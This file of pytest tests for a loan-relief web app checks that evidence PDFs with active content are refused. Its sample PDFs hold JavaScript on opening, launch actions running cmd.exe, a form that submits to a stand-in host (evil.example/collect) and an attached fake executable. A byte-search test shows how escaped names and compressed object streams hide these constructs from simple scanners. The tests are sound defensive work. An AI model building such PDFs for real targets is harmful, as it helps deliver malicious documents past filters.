"""Active content in evidence PDFs: reviewers open these files, so a PDF that a viewer would
run, open a link from, submit a form from or unpack a file from is refused (415 in the API, a
message next to the field on the page), however its names are spelt and wherever its objects
are kept. The PDFs are real files, built with pikepdf or written byte by byte."""

import io

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from relief.models import Evidence, ReliefApplication
from tests.pdf_samples import PAGES, SCAN_PDF, handmade_pdf, scan_pdf
from tests.security.conftest import World, api_client, files_under, page_client

pytestmark = pytest.mark.django_db

Name, Dictionary, String = pikepdf.Name, pikepdf.Dictionary, pikepdf.String


def open_action_script(pdf):
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def link(action: Dictionary):
    def change(pdf):
        annotation = Dictionary(
            Type=Name.Annot, Subtype=Name.Link, Rect=[72, 700, 300, 720], A=action
        )
        pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(annotation)]))

    return change


def page_actions(pdf):
    pdf.pages[0].AA = Dictionary(O=Dictionary(S=Name.GoTo, D=[pdf.pages[0].obj, Name.Fit]))


def open_at_first_page(pdf):
    pdf.Root.OpenAction = pikepdf.Array([pdf.pages[0].obj, Name.Fit])


def attachment(pdf):
    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00program")


ACTIVE = {
    "script on opening, spelt plainly": handmade_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
        *PAGES,
    ),
    "program launched, spelt plainly, in a damaged file": (
        b"%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /Launch /F (cmd) >> >> endobj\n"
        b"trailer << /Root 1 0 R >>\n%%EOF\n"
    ),
    "script on opening, in a compressed object stream": scan_pdf(
        object_streams=True, change=open_action_script
    ),
    "script under an escaped name (/J#61vaScript)": handmade_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /Names << /J#61vaScript 4 0 R >> >>",
        *PAGES,
        b"<< /Names [(run) << /S /J#61vaScript /J#53 (app.alert(1)) >>] >>",
    ),
    "program launched under an escaped name (/L#61unch)": handmade_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /L#61unch /F (cmd.exe) >> >>",
    ),
    "link to a web address (/URI)": scan_pdf(
        change=link(Dictionary(S=Name.URI, URI=String("https://evil.example/")))
    ),
    "form that submits itself (/SubmitForm)": scan_pdf(
        change=link(Dictionary(S=Name.SubmitForm, F=String("https://evil.example/collect")))
    ),
    "actions on page events (/AA)": scan_pdf(change=page_actions),
    "action on opening (/OpenAction)": scan_pdf(change=open_at_first_page),
    "an attached file (/EmbeddedFile)": scan_pdf(object_streams=True, change=attachment),
}


def upload(name: str, data: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type="application/pdf")


def evidence_url(world: World) -> str:
    return f"/api/v1/relief-applications/{world.application.pk}/evidence/"


def test_the_hidden_constructs_are_invisible_to_a_byte_search():
    """What a search of the raw bytes for /JavaScript or /Launch missed."""
    compressed = ACTIVE["script on opening, in a compressed object stream"]
    assert b"JavaScript" not in compressed and b"OpenAction" not in compressed
    escaped = ACTIVE["script under an escaped name (/J#61vaScript)"]
    assert b"/JavaScript" not in escaped and b"/JS" not in escaped
    assert b"/Launch" not in ACTIVE["program launched under an escaped name (/L#61unch)"]


@pytest.mark.parametrize("case", ACTIVE)
def test_a_pdf_with_active_content_is_415_in_the_api_and_nothing_is_kept(
    case, world: World, people, tmp_path
):
    before_files, before_rows = files_under(tmp_path), Evidence.objects.count()
    response = api_client(people["owner"]).post(
        evidence_url(world), {"file": upload("certificate.pdf", ACTIVE[case])}, format="multipart"
    )
    assert response.status_code == 415
    error = response.json()["error"]
    assert error["code"] == "file_active_content"
    assert error["fields"]["file"] == [
        "certificate.pdf contains active content (a script, a link, a form action or an "
        "attached file), which a scanned document never needs. Please upload a plain scan or "
        "photo of the document."
    ]
    assert Evidence.objects.count() == before_rows
    assert files_under(tmp_path) == before_files


@pytest.mark.parametrize("object_streams", [False, True], ids=["plain", "object-streams"])
def test_a_clean_pdf_still_passes(object_streams, world: World, people):
    data = scan_pdf(object_streams=object_streams)
    response = api_client(people["owner"]).post(
        evidence_url(world), {"file": upload("certificate.pdf", data)}, format="multipart"
    )
    assert response.status_code == 201, response.json()
    stored = Evidence.objects.filter(application=world.application).order_by("pk").last()
    assert stored.content_type == "application/pdf" and stored.size == len(data)


def test_a_pdf_locked_with_a_password_is_refused_as_unreadable(world: World, people):
    pdf = pikepdf.open(io.BytesIO(SCAN_PDF))
    buffer = io.BytesIO()
    pdf.save(buffer, encryption=pikepdf.Encryption(user="secret", owner="secret"))
    response = api_client(people["owner"]).post(
        evidence_url(world),
        {"file": upload("locked.pdf", buffer.getvalue())},
        format="multipart",
    )
    assert response.status_code == 415
    assert response.json()["error"]["code"] == "file_unreadable"


def test_the_apply_form_shows_why_next_to_the_files_and_keeps_nothing(
    world: World, people, tmp_path
):
    before_files = files_under(tmp_path)
    response = page_client(people["owner"]).post(
        f"/loans/{world.free_loan.pk}/apply/",
        {
            "reason": "accident",
            "files": [
                upload("ok.pdf", SCAN_PDF),
                upload("bill.pdf", ACTIVE["link to a web address (/URI)"]),
            ],
        },
    )
    assert response.status_code == 200
    assert "bill.pdf contains active content" in response.content.decode()
    assert not ReliefApplication.objects.filter(loan=world.free_loan).exists()
    assert files_under(tmp_path) == before_files
